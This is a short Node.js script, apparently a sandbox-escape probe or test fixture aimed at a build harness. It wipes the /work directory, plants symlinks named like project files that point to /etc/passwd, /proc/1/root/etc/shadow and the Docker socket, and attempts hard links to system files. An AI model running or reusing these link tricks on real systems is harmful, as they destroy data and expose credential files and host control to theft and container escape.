import fs from 'node:fs';
import { serve } from './honest.mjs';

for (const path of fs.readdirSync('/work')) fs.rmSync(`/work/${path}`, { recursive: true });
const TARGETS = ['/etc/passwd', '/opt/touchstone/build.mjs', '/var/run/docker.sock', '/proc/1/root/etc/shadow'];
TARGETS.forEach((target, index) => fs.symlinkSync(target, `/work/${['main.mjs', 'run', 'compile', 'package.json'][index]}`));
for (const path of ['/etc/passwd', '/opt/touchstone/boot.cjs']) {
  try {
    fs.linkSync(path, '/work/hard');
    console.log('linked');
  } catch ({ code }) {
    console.log(`link: ${code}`);
  }
}
serve();
